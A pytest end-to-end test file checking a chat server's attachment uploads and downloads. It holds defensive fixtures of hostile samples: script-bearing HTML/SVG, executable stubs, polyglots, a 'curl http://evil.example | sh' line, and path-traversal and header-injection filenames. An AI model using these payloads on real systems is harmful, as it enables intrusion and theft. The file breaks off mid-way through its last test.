"""Attachments end to end over real HTTP: upload, type rules, limits, download
(docs/attachments.md)."""

from __future__ import annotations

import asyncio
import gzip
import hashlib
import io
import json
import os
import re
import tarfile
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import socketio
from PIL import Image

from chatd.config import ConfigError, load_settings
from chatd.core.models import Role
from chatd.files import KINDS, markup_problem
from chatd.web import keys
from tests.conftest import Chatd
from tests.e2e.helpers import Inbox
from tests.web.conftest import ChatdProcess, PeakRSS

MiB = 1024 * 1024
CSP = "sandbox; default-src 'none'"
STORED = re.compile(r"[0-9a-f]{32}(-thumb)?")


# ---------------------------------------------------------------------- files made here


def png(size: tuple[int, int] = (640, 400), mode: str = "RGBA") -> bytes:
    color = {"RGBA": (200, 30, 30, 128), "RGB": (200, 30, 30), "L": 90}[mode]
    buf = io.BytesIO()
    Image.new(mode, size, color).save(buf, "PNG")
    return buf.getvalue()


def jpeg_with_exif() -> bytes:
    im = Image.new("RGB", (800, 600), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # Make
    exif[0x0131] = "leaky-editor 1.0"  # Software
    exif[0x0112] = 6  # Orientation: rotated
    buf = io.BytesIO()
    im.save(buf, "JPEG", exif=exif.tobytes(), quality=85)
    return buf.getvalue()


def gif() -> bytes:
    buf = io.BytesIO()
    Image.new("P", (120, 80), 3).save(buf, "GIF")
    return buf.getvalue()


def webp() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (300, 200), (0, 200, 0)).save(buf, "WEBP")
    return buf.getvalue()


def log_text(lines: int = 2000) -> bytes:
    return "".join(
        f"2025-01-01T00:00:{i % 60:02d}Z ERROR worker-{i % 7} request failed: timeout (é→ü)\n"
        for i in range(lines)
    ).encode()


def gz() -> bytes:
    return gzip.compress(log_text(500))


def tar_gz() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        data = log_text(100)
        info = tarfile.TarInfo("logs/app.log")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def zip_archive() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("diag/system.txt", "cpu: 4\nmem: 16G\n")
        z.writestr("diag/app.log", log_text(50))
    return buf.getvalue()


def tiny_pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(2)</script><circle r='4'/></svg>"
)
XML_SVG = b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- exported -->\n' + SVG
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + (
    b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00L\x01\x03\x00" + b"\x00" * 400
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + (
    b"\x00" * 600
)
GIF_JS_POLYGLOT = b"GIF89a=1;alert(document.domain);//" + b" " * 64
HTML_ZIP_POLYGLOT = HTML + zip_archive()


# ---------------------------------------------------------------------- a chat to attach to


@dataclass
class Chat:
    chatd: Chatd
    session_id: str
    customer_token: str
    customer: socketio.AsyncClient
    customer_inbox: Inbox
    engineer_token: str | None = None
    engineer: socketio.AsyncClient | None = None
    engineer_inbox: Inbox | None = None

    @property
    def upload_dir(self) -> Path:
        return Path(self.chatd.app[keys.SETTINGS].upload_dir)

    async def upload(
        self,
        data: bytes,
        filename: str | None,
        *,
        token: str | None = None,
        declared: str = "application/octet-stream",
        session_id: str | None = None,
    ) -> tuple[int, dict[str, Any]]:
        form = aiohttp.FormData()
        # A file object, as a browser would stream it (aiohttp warns on large raw bytes).
        form.add_field("file", io.BytesIO(data), filename=filename, content_type=declared)
        headers = {"Authorization": f"Bearer {token or self.customer_token}"}
        sid = session_id or self.session_id
        async with aiohttp.ClientSession() as http:
            async with http.post(
                f"{self.chatd.url}/api/sessions/{sid}/attachments", data=form, headers=headers
            ) as r:
                return r.status, await r.json()

    async def get(
        self, path: str, token: str | None, headers: dict[str, str] | None = None
    ) -> tuple[int, Any, bytes]:
        h = dict(headers or {})
        if token is not None:
            h["Authorization"] = f"Bearer {token}"
        async with aiohttp.ClientSession() as http:
            async with http.get(self.chatd.url + path, headers=h) as r:
                return r.status, r.headers, await r.read()

    async def messages(self) -> list[Any]:
        return await self.chatd.app[keys.STORE].messages_after(self.session_id, 0, 1000)

    def stored_files(self) -> list[str]:
        if not self.upload_dir.exists():
            return []
        return sorted(os.listdir(self.upload_dir))


async def open_chat(chatd: Chatd, *, accept: bool = True, name: str = "Carol") -> Chat:
    customer = await chatd.client(
        "/customer", {"guest": {"name": name, "email": f"{name.lower()}@example.com"}}
    )
    inbox = Inbox(customer, "/customer")
    r = await customer.call("chat:request", {"topic": "Upload fails"}, namespace="/customer")
    assert r["ok"], r
    chat = Chat(chatd, r["session"]["id"], r["resume_token"], customer, inbox)
    if accept:
        email = f"eng-{name.lower()}@example.com"
        await chatd.add_engineer(email, name=f"Eng {name}")
        token = await chatd.login(email)
        eng = await chatd.client("/engineer", {"token": token})
        eng_inbox = Inbox(eng, "/engineer")
        ok = await eng.call("engineer:status", {"status": "available"}, namespace="/engineer")
        assert ok["ok"], ok
        await eng_inbox.wait_for("offer:new", lambda d: d["session_id"] == chat.session_id)
        acc = await eng.call("offer:accept", {"session_id": chat.session_id}, namespace="/engineer")
        assert acc["ok"], acc
        # Away for new chats, so that the next chat opened here goes to its own engineer.
        away = await eng.call("engineer:status", {"status": "away"}, namespace="/engineer")
        assert away["ok"], away
        chat.engineer_token, chat.engineer, chat.engineer_inbox = token, eng, eng_inbox
    return chat


def tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


# ---------------------------------------------------------------------- accepted types


ALLOWED = [
    ("screenshot.png", png, "image/png"),
    ("photo.jpg", jpeg_with_exif, "image/jpeg"),
    ("spinner.gif", gif, "image/gif"),
    ("capture.webp", webp, "image/webp"),
    ("server.log", log_text, "text/plain; charset=utf-8"),
    ("notes.txt", lambda: b"Steps:\n1. open\n2. crash\n", "text/plain; charset=utf-8"),
    ("config.json", lambda: b'{"retries": 3, "debug": true}\n', "text/plain; charset=utf-8"),
    ("metrics.csv", lambda: b"ts,value\n1,2\n", "text/plain; charset=utf-8"),
    ("settings.xml", lambda: b'<?xml version="1.0"?>\n<config><a>1</a></config>\n',
     "text/plain; charset=utf-8"),
    ("values.yaml", lambda: b"replicas: 2\nimage: app:1.2\n", "text/plain; charset=utf-8"),
    ("session.har", lambda: b'{"log": {"version": "1.2", "entries": []}}',
     "text/plain; charset=utf-8"),
    ("app.log.1", log_text, "text/plain; charset=utf-8"),
    ("server.log.gz", gz, "application/gzip"),
    ("bundle.tar.gz", tar_gz, "application/gzip"),
    ("diagnostics.zip", zip_archive, "application/zip"),
    ("manual.pdf", tiny_pdf, "application/pdf"),
]


@pytest.mark.parametrize(("filename", "make", "content_type"), ALLOWED,
                         ids=[a[0] for a in ALLOWED])
async def test_each_allowed_type_is_accepted_and_served_as_its_true_type(
    chatd_factory: Any, filename: str, make: Any, content_type: str
) -> None:
    chat = await open_chat(await chatd_factory())
    data = make()
    # The declared Content-Type is a lie on purpose: only the bytes decide.
    status, body = await chat.upload(data, filename, declared="text/html")
    assert status == 201, body
    att = body["attachment"]
    assert att["filename"] == filename
    assert att["content_type"] == content_type
    assert att["size"] == len(data)
    assert att["sha256"] == hashlib.sha256(data).hexdigest()
    assert att["url"] == f"/api/attachments/{att['id']}"
    stored = [n for n in chat.stored_files() if not n.endswith("-thumb")]
    assert len(stored) == 1 and STORED.fullmatch(stored[0])
    assert (chat.upload_dir / stored[0]).read_bytes() == data
    status, headers, got = await chat.get(att["url"], chat.engineer_token)
    assert status == 200 and got == data
    assert headers["Content-Type"] == content_type
    if content_type.startswith("image/"):
        assert "thumbnail_url" in att
        status, headers, thumb = await chat.get(att["thumbnail_url"], chat.customer_token)
        assert status == 200
        with Image.open(io.BytesIO(thumb)) as im:
            assert max(im.size) <= 320
            assert headers["Content-Type"] == Image.MIME[im.format or ""]
    else:
        assert "thumbnail_url" not in att
        status, _, _ = await chat.get(att["url"] + "/thumbnail", chat.engineer_token)
        assert status == 404


async def test_attachment_message_is_relayed_to_both_sides_and_kept_in_history(
    chatd_factory: Any,
) -> None:
    chat = await open_chat(await chatd_factory())
    assert chat.engineer_inbox is not None and chat.engineer is not None
    sent = await chat.customer.call(
        "message:send",
        {"session_id": chat.session_id, "client_msg_id": "c1", "body": "here is the log"},
        namespace="/customer",
    )
    status, body = await chat.upload(log_text(), "server.log", token=chat.engineer_token)
    assert status == 201, body
    msg = body["message"]
    assert msg["kind"] == "attachment" and msg["body"] == "server.log"
    assert msg["seq"] == sent["message"]["seq"] + 1
    assert msg["attachment"] == body["attachment"]
    assert msg["sender"]["role"] == "engineer"
    for inbox in (chat.customer_inbox, chat.engineer_inbox):
        got = await inbox.wait_for("message:new", lambda d: d["message"]["kind"] == "attachment")
        assert got["message"] == msg
    resumed = await chat.customer.call(
        "session:resume",
        {"session_id": chat.session_id, "resume_token": chat.customer_token, "after_seq": 0},
        namespace="/customer",
    )
    assert resumed["messages"][-1] == msg


async def test_customer_may_attach_while_waiting_and_the_engineer_sees_it_on_accept(
    chatd_factory: Any,
) -> None:
    chatd = await chatd_factory()
    chat = await open_chat(chatd, accept=False)
    status, body = await chat.upload(png(), "error-dialog.png")
    assert status == 201, body
    await chatd.add_engineer("late@example.com", name="Late")
    token = await chatd.login("late@example.com")
    eng = await chatd.client("/engineer", {"token": token})
    inbox = Inbox(eng, "/engineer")
    await eng.call("engineer:status", {"status": "available"}, namespace="/engineer")
    await inbox.wait_for("offer:new")
    acc = await eng.call("offer:accept", {"session_id": chat.session_id}, namespace="/engineer")
    assert [m["kind"] for m in acc["messages"]][0] == "attachment"
    status, _, data = await chat.get(body["attachment"]["url"], token)
    assert status == 200 and data == png()


async def test_thumbnails_carry_no_exif_and_follow_the_orientation(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory())
    status, body = await chat.upload(jpeg_with_exif(), "photo.jpeg")
    assert status == 201, body
    _, _, thumb = await chat.get(body["attachment"]["thumbnail_url"], chat.engineer_token)
    assert b"SecretCam" not in thumb and b"leaky-editor" not in thumb and b"Exif" not in thumb
    with Image.open(io.BytesIO(thumb)) as im:
        assert not im.getexif()
        assert im.size[0] < im.size[1]  # the 800x600 original is rotated by its EXIF tag
    # The original is kept byte for byte (its SHA-256 is in the chat).
    _, _, original = await chat.get(body["attachment"]["url"], chat.engineer_token)
    assert original == jpeg_with_exif()


# ---------------------------------------------------------------------- refused content


REFUSED = [
    ("svg-with-script", SVG, "logo.svg"),
    ("svg-named-xml", XML_SVG, "diagram.xml"),
    ("html", HTML, "page.html"),
    ("html-renamed-png", HTML, "screenshot.png"),
    ("html-renamed-txt", HTML, "notes.txt"),
    ("pe-executable", PE, "setup.exe"),
    ("pe-renamed-log", PE, "debug.log"),
    ("elf-executable", ELF, "collector"),
    ("shell-script", b"#!/bin/sh\ncurl http://evil.example | sh\n", "fix.txt"),
    ("python-source", b"import os\nos.system('id')\n", "../../app.py"),
    ("gif-js-polyglot", GIF_JS_POLYGLOT, "spinner.gif"),
    ("html-zip-polyglot", HTML_ZIP_POLYGLOT, "bundle.zip"),
    ("unknown-binary", bytes(range(256)) * 64, "blob.log"),
    ("png-named-jpg", png(), "photo.jpg"),
    ("text-named-pdf", b"just text\n", "invoice.pdf"),
    ("invalid-utf8-after-head", b"a" * 20000 + b"\xff\xfe" + b"b" * 100, "big.log"),
    ("nul-after-head", b"a" * 20000 + b"\x00" + b"b" * 100, "big.log"),
    ("rtl-override-exe", PE, "invoice\u202egpj.exe"),
]


@pytest.mark.parametrize(("data", "filename"), [r[1:] for r in REFUSED],
                         ids=[r[0] for r in REFUSED])
async def test_hostile_or_unknown_content_is_refused_and_leaves_nothing(
    chatd_factory: Any, tmp_path: Path, data: bytes, filename: str
) -> None:
    chat = await open_chat(await chatd_factory())
    before = tree(tmp_path)
    status, body = await chat.upload(data, filename, declared="image/png")
    assert status == 415, body
    assert body["ok"] is False and body["error"]["code"] == "unsupported_type"
    message = body["error"]["message"]
    assert "Allowed: PNG, JPEG, GIF or WebP images; text logs" in message
    assert ".gz, .tar.gz or .zip archives; PDF documents" in message
    assert chat.stored_files() == []
    assert all(m.kind.value != "attachment" for m in await chat.messages())
    assert {p for p in tree(tmp_path) - before if not p.startswith("chatd.db")} == set()
    assert not (tmp_path.parent / "app.py").exists()  # where ../../app.py would have gone


async def test_png_with_html_hidden_inside_is_served_only_as_an_image(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory())
    polyglot = png() + HTML  # a valid PNG whose trailing bytes are a page
    status, body = await chat.upload(polyglot, "shot.png")
    assert status == 201, body
    status, headers, data = await chat.get(body["attachment"]["url"], chat.customer_token)
    assert status == 200 and data == polyglot
    assert headers["Content-Type"] == "image/png"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == CSP
    _, _, thumb = await chat.get(body["attachment"]["thumbnail_url"], chat.customer_token)
    assert b"<script" not in thumb


async def test_images_with_too_many_pixels_are_refused(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory())
    huge = png((8000, 6000), mode="L")  # 48 megapixels, a few hundred KiB compressed
    status, body = await chat.upload(huge, "wall.png")
    assert status == 413, body
    assert "megapixels" in body["error"]["message"]
    assert chat.stored_files() == []


def browser_filename(name: str) -> str:
    """How browsers write a filename in multipart/form-data (WHATWG: '"', CR, LF escaped),
    with backslashes escaped for the quoted string."""
    escaped = name.replace("\\", "\\\\")
    return escaped.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")


async def raw_upload(chat: Chat, data: bytes, disposition_filename: str) -> tuple[int, Any]:
    body = (
        b"--B0und\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
        + disposition_filename.encode()
        + b"\"\r\nContent-Type: application/octet-stream\r\n\r\n"
        + data
        + b"\r\n--B0und--\r\n"
    )
    headers = {
        "Authorization": f"Bearer {chat.customer_token}",
        "Content-Type": "multipart/form-data; boundary=B0und",
    }
    async with aiohttp.ClientSession() as http:
        async with http.post(
            f"{chat.chatd.url}/api/sessions/{chat.session_id}/attachments",
            data=body, headers=headers,
        ) as r:
            return r.status, await r.json()


HOSTILE_NAMES = [
    ("../../app.log", "app.log"),
    ("..%2F..%2Fapp.log", "app.log"),
    ("..\\..\\windows\\win.ini.log", "win.ini.log"),
    ('"><svg onload=alert(1)>.png', "svg onload=alert(1)_.png"),
    ("report\r\nSet-Cookie: x=1.log", "reportSet-Cookie_ x=1.log"),
    ("résumé «final».log", "résumé «final».log"),
    (".bashrc.txt", "bashrc.txt"),
    ("", "attachment.txt"),
    ("screenshot", "screenshot.txt"),
]


@pytest.mark.parametrize(("raw", "shown"), HOSTILE_NAMES, ids=[n[1] for n in HOSTILE_NAMES])
async def test_filenames_are_sanitised_and_never_reach_the_disk(
    chatd_factory: Any, tmp_path: Path, raw: str, shown: str
) -> None:
    chat = await open_chat(await chatd_factory())
    data = png() if shown.endswith(".png") else b"line one\nline two\n"
    before = tree(tmp_path)
    status, body = await raw_upload(chat, data, browser_filename(raw))
    assert status == 201, body
    assert body["attachment"]["filename"] == shown
    if not re.search(r"[%\r\n]", raw):
        # aiohttp's own client percent-escapes every byte of the name: the same name results.
        status, again = await chat.upload(data, raw)
        assert status == 201 and again["attachment"]["filename"] == shown
    assert {p for p in tree(tmp_path) - before if not p.startswith("chatd.db")} == {
        f"uploads/{n}" for n in chat.stored_files()
    }
    assert all(STORED.fullmatch(n) for n in chat.stored_files())
    _, headers, _ = await chat.get(body["attachment"]["url"], chat.customer_token)
    disposition = headers["Content-Disposition"]
    fallback = re.fullmatch(r'(inline|attachment); filename="([^"\\]*)"; filename\*=(\S+)',
                            disposition)
    assert fallback is not None, disposition
    assert all(c not in disposition for c in "\r\n<>")


# ---------------------------------------------------------------------- download


async def test_download_headers_are_exactly_the_safe_ones(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory())
    _, log = await chat.upload(log_text(), "résumé.log")
    status, headers, _ = await chat.get(log["attachment"]["url"], chat.engineer_token)
    assert status == 200
    assert headers["Content-Type"] == "text/plain; charset=utf-8"
    assert headers["Content-Disposition"] == (
        "attachment; filename=\"r_sum_.log\"; filename*=UTF-8''r%C3%A9sum%C3%A9.log"
    )
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == CSP
    _, image = await chat.upload(png(), "shot.png")
    status, headers, _ = await chat.get(image["attachment"]["url"], chat.engineer_token)
    assert headers["Content-Type"] == "image/png"
    assert headers["Content-Disposition"] == (
        "inline; filename=\"shot.png\"; filename*=UTF-8''shot.png"
    )
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == CSP
    _, pdf = await chat.upload(tiny_pdf(), "manual.pdf")
    _, headers, _ = await chat.get(pdf["attachment"]["url"], chat.customer_token)
    assert headers["Content-Type"] == "application/pdf"
    assert headers["Content-Disposition"].startswith("attachment; ")


async def test_only_participants_and_leads_can_download_everyone_else_gets_404(
    chatd_factory: Any,
) -> None:
    chatd = await chatd_factory()
    chat = await open_chat(chatd, name="Carol")
    other = await open_chat(chatd, name="Dave")  # a second customer, with their own chat
    await chatd.add_engineer("lead@example.com", name="Lee", role=Role.LEAD)
    lead_token = await chatd.login("lead@example.com")
    _, body = await chat.upload(log_text(), "server.log")
    url = body["attachment"]["url"]
    for who, token in [
        ("the customer", chat.customer_token),
        ("the engineer", chat.engineer_token),
        ("a lead", lead_token),
    ]:
        status, _, data = await chat.get(url, token)
        assert status == 200 and data == log_text(), who
    strangers = [
        ("a second customer", other.customer_token),
        ("a non-assigned engineer", other.engineer_token),
        ("an anonymous caller", None),
        ("a made-up token", "x" * 43),
    ]
    for who, token in strangers:
        for path in (url, url + "/thumbnail"):
            status, _, data = await chat.get(path, token)
            assert status == 404, who
            assert b"server.log" not in data and b"ERROR worker" not in data
            assert json.loads(data)["error"]["code"] == "not_found"
    # An unknown id looks the same as a forbidden one.
    status, _, _ = await chat.get("/api/attachments/00000000-0000-4000-8000-000000000000",
                                  chat.customer_token)
    assert status == 404


async def test_participants_can_still_download_after_the_chat_ended(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory())
    _, body = await chat.upload(log_text(), "server.log")
    assert chat.engineer is not None
    end = await chat.engineer.call(
        "session:end", {"session_id": chat.session_id}, namespace="/engineer"
    )
    assert end["ok"], end
    for token in (chat.customer_token, chat.engineer_token):
        status, _, data = await chat.get(body["attachment"]["url"], token)
        assert status == 200 and data == log_text()
    status, late = await chat.upload(log_text(), "more.log")
    assert status == 409 and late["error"]["code"] == "session_closed"


async def test_range_requests_and_conditional_requests(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory())
    data = log_text(20000)  # a large log, ~1.5 MiB
    _, body = await chat.upload(data, "big.log")
    url, token, size = body["attachment"]["url"], chat.engineer_token, len(data)
    status, headers, part = await chat.get(url, token, {"Range": "bytes=100-199"})
    assert status == 206 and part == data[100:200]
    assert headers["Content-Range"] == f"bytes 100-199/{size}"
    status, headers, part = await chat.get(url, token, {"Range": "bytes=-500"})
    assert status == 206 and part == data[-500:]
    status, _, part = await chat.get(url, token, {"Range": f"bytes={size - 10}-"})
    assert status == 206 and part == data[-10:]
    status, headers, _ = await chat.get(url, token, {"Range": f"bytes={size}-"})
    assert status == 416 and headers["Content-Range"] == f"bytes */{size}"
    etag = f'"{body["attachment"]["sha256"]}"'
    status, _, part = await chat.get(url, token, {"Range": "bytes=0-9", "If-Range": etag})
    assert status == 206 and part == data[:10]
    status, _, whole = await chat.get(url, token, {"Range": "bytes=0-9", "If-Range": '"old"'})
    assert status == 200 and whole == data
    status, _, empty = await chat.get(url, token, {"If-None-Match": etag})
    assert status == 304 and empty == b""


async def test_symlinks_in_the_upload_folder_are_not_followed(
    chatd_factory: Any, tmp_path: Path
) -> None:
    chat = await open_chat(await chatd_factory())
    _, body = await chat.upload(b"harmless\n", "a.log")
    (stored,) = chat.stored_files()
    secret = tmp_path / "secret.txt"
    secret.write_text("database password: hunter2\n")
    target = chat.upload_dir / stored
    target.unlink()
    target.symlink_to(secret)
    status, _, data = await chat.get(body["attachment"]["url"], chat.customer_token)
    assert status == 404 and b"hunter2" not in data


async def test_the_upload_folder_is_never_served_as_a_directory(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory())
    await chat.upload(b"private\n", "a.log")
    (stored,) = chat.stored_files()
    for path in (f"/uploads/{stored}", "/uploads/", f"/static/../uploads/{stored}",
                 f"/api/attachments/{stored}", f"/api/attachments/..%2F..%2Fuploads%2F{stored}"):
        status, _, data = await chat.get(path, chat.engineer_token)
        assert status == 404, path
        assert b"private" not in data


# ---------------------------------------------------------------------- who may upload


async def test_uploads_need_a_participant_of_an_open_session(chatd_factory: Any) -> None:
    chatd = await chatd_factory()
    chat = await open_chat(chatd, name="Carol")
    other = await open_chat(chatd, name="Dave")
    status, body = await chat.upload(b"x\n", "a.log", token="not-a-token")
    assert status == 401 and body["error"]["code"] == "unauthorized"
    # Another chat's resume token opens that chat only.
    status, body = await chat.upload(b"x\n", "a.log", token=other.customer_token)
    assert status == 401
    # An engineer who is not assigned to the chat.
    status, body = await chat.upload(b"x\n", "a.log", token=other.engineer_token)
    assert status == 403 and body["error"]["code"] == "forbidden"
    async with aiohttp.ClientSession() as http:
        async with http.post(
            f"{chatd.url}/api/sessions/{chat.session_id}/attachments", data=b"x"
        ) as r:
            assert r.status == 401
    assert chat.stored_files() == []


async def test_an_engineer_cannot_attach_to_a_chat_not_yet_assigned(chatd_factory: Any) -> None:
    chatd = await chatd_factory()
    chat = await open_chat(chatd, accept=False)
    await chatd.add_engineer("lead@example.com", name="Lee", role=Role.LEAD)
    lead = await chatd.login("lead@example.com")
    status, body = await chat.upload(b"x\n", "a.log", token=lead)
    assert status == 409 and body["error"]["code"] == "conflict"


async def test_per_session_count_and_byte_limits(chatd_factory: Any) -> None:
    chatd = await chatd_factory(upload_session_max_count=2, upload_session_max_bytes=100_000,
                                upload_max_bytes=60_000)
    chat = await open_chat(chatd)
    assert (await chat.upload(b"a" * 50_000, "one.log"))[0] == 201
    status, body = await chat.upload(b"b" * 55_000, "two.log")
    assert status == 413 and "are left" in body["error"]["message"]
    assert (await chat.upload(b"c" * 40_000, "two.log"))[0] == 201
    status, body = await chat.upload(b"d\n", "three.log")
    assert status == 409 and "limit of 2 attachments" in body["error"]["message"]
    assert len(chat.stored_files()) == 2


async def test_upload_rate_is_limited_per_token(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory(upload_rate=0.001, upload_burst=2))
    assert (await chat.upload(b"1\n", "1.log"))[0] == 201
    assert (await chat.upload(b"2\n", "2.log"))[0] == 201
    status, body = await chat.upload(b"3\n", "3.log")
    assert status == 429 and body["error"]["code"] == "rate_limited"
    # The engineer's own allowance is separate.
    assert (await chat.upload(b"4\n", "4.log", token=chat.engineer_token))[0] == 201


async def test_text_split_inside_multibyte_characters_is_still_text(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory())
    data = ("é€𝄞" * 300_000).encode()  # 2.7 MiB: chunk edges fall inside characters
    status, body = await chat.upload(data, "unicode.log")
    assert status == 201, body
    assert body["attachment"]["sha256"] == hashlib.sha256(data).hexdigest()


# ---------------------------------------------------------------------- streaming


def multipart_head(boundary: str, filename: str = "big.log") -> bytes:
    return (
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
        f"filename=\"{filename}\"\r\nContent-Type: text/plain\r\n\r\n"
    ).encode()


def request_head(chat_path: str, token: str, boundary: str, length: int | None) -> bytes:
    framing = f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"
    return (
        f"POST {chat_path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n"
        f"Content-Type: multipart/form-data; boundary={boundary}\r\n{framing}\r\n\r\n"
    ).encode()


def http_chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


async def read_status(reader: asyncio.StreamReader) -> int:
    line = await asyncio.wait_for(reader.readline(), 10)
    return int(line.split()[1])


async def wait_until_empty(folder: Path) -> list[str]:
    for _ in range(100):
        left = os.listdir(folder)
        if not left:
            return left
        await asyncio.sleep(0.05)
    return os.listdir(folder)


async def test_oversize_upload_is_answered_413_while_still_streaming(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory(upload_max_bytes=MiB))
    path = f"/api/sessions/{chat.session_id}/attachments"
    reader, writer = await asyncio.open_connection(chat.chatd.server.host, chat.chatd.server.port)
    try:
        # No Content-Length: only counting the bytes as they come can stop this one.
        writer.write(request_head(path, chat.customer_token, "B0und", None))
        writer.write(http_chunk(multipart_head("B0und")))
        for _ in range(40):  # 2.5 MiB, and the body never ends
            writer.write(http_chunk(b"x" * 65536))
        await writer.drain()
        assert await read_status(reader) == 413
    finally:
        writer.close()
    assert await wait_until_empty(chat.upload_dir) == []
    assert all(m.kind.value != "attachment" for m in await chat.messages())


async def test_declared_oversize_body_is_refused_before_it_is_sent(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory(upload_max_bytes=MiB))
    path = f"/api/sessions/{chat.session_id}/attachments"
    for expect in (True, False):
        reader, writer = await asyncio.open_connection(
            chat.chatd.server.host, chat.chatd.server.port
        )
        try:
            head = request_head(path, chat.customer_token, "B0und", 200 * MiB)
            if expect:
                head = head.replace(b"\r\n\r\n", b"\r\nExpect: 100-continue\r\n\r\n")
            writer.write(head)
            await writer.drain()
            assert await read_status(reader) == 413  # not "100 Continue"
        finally:
            writer.close()


@pytest.mark.parametrize("where", ["mid-file", "after-file-before-closing-boundary"])
async def test_a_cut_off_upload_leaves_no_file_and_no_message(
    chatd_factory: Any, where: str
) -> None:
    chat = await open_chat(await chatd_factory())
    path = f"/api/sessions/{chat.session_id}/attachments"
    data = log_text(20000)
    body = multipart_head("B0und") + data + b"\r\n--B0und--\r\n"
    # Either half the file, or all of it and the boundary after it but not the final "--".
    sent = body[: len(body) // 2] if where == "mid-file" else body[: -len(b"--\r\n")]
    reader, writer = await asyncio.open_connection(chat.chatd.server.host, chat.chatd.server.port)
    writer.write(request_head(path, chat.customer_token, "B0und", len(body)) + sent)
    await writer.drain()
    for _ in range(100):  # until the server has the bytes on disk, as a cut-off finds them
        if any(n.endswith(".part") for n in chat.stored_files()):
            break
        await asyncio.sleep(0.02)
    writer.transport.abort()  # the connection drops, as when a laptop lid closes
    assert await wait_until_empty(chat.upload_dir) == []
    assert all(m.kind.value != "attachment" for m in await chat.messages())
    assert await chat.chatd.app[keys.STORE].session_attachment_usage(chat.session_id) == (0, 0)
    # The chat goes on: the next upload works.
    status, ok = await chat.upload(data, "server.log")
    assert status == 201, ok


# ---------------------------------------------------------------------- memory, in a real server


async def stream_body(
    boundary: str, size: int, sha: Any
) -> AsyncIterator[bytes]:
    yield multipart_head(boundary)
    line = b"2025-01-01T00:00:00Z INFO request served in 12 ms path=/api/items/42 status=200\n"
    block = line * (65536 // len(line))
    sent = 0
    while sent < size:
        piece = block[: size - sent]
        sha.update(piece)
        sent += len(piece)
        yield piece
    yield f"\r\n--{boundary}--\r\n".encode()


async def process_chat(server: ChatdProcess) -> tuple[socketio.AsyncClient, str, str]:
    client = socketio.AsyncClient(reconnection=False)
    await client.connect(server.url, namespaces=["/customer"], transports=["websocket"],
                         auth={"guest": {"name": "Mem", "email": "mem@example.com"}},
                         wait_timeout=10)
    r = await client.call("chat:request", {"topic": "memory"}, namespace="/customer")
    assert r["ok"], r
    return client, r["session"]["id"], r["resume_token"]


async def upload_stream(
    server: ChatdProcess, sid: str, token: str, size: int
) -> tuple[int, Any, str]:
    sha = hashlib.sha256()
    headers = {
        "Authorization": f"Bearer {token}",
        "Content-Type": "multipart/form-data; boundary=B0und",
    }
    async with aiohttp.ClientSession() as http:
        async with http.post(
            f"{server.url}/api/sessions/{sid}/attachments",
            data=stream_body("B0und", size, sha), headers=headers,
        ) as r:
            return r.status, await r.json(), sha.hexdigest()


# The server may use some memory per upload (a few chunks in flight, allocator slack), but
# nothing in proportion to the file: 200 MiB held in memory would be 12 times this bound.
RSS_BOUND_MIB = 16


@pytest.mark.slow
async def test_a_200_mib_upload_streams_without_growing_server_memory(
    chatd_process: Any,
) -> None:
    server: ChatdProcess = await chatd_process(
        CHATD_UPLOAD_MAX_BYTES="256MiB", CHATD_UPLOAD_SESSION_MAX_BYTES="512MiB"
    )
    client, sid, token = await process_chat(server)
    try:
        await upload_stream(server, sid, token, 1 * MiB)  # warm up code paths and pools
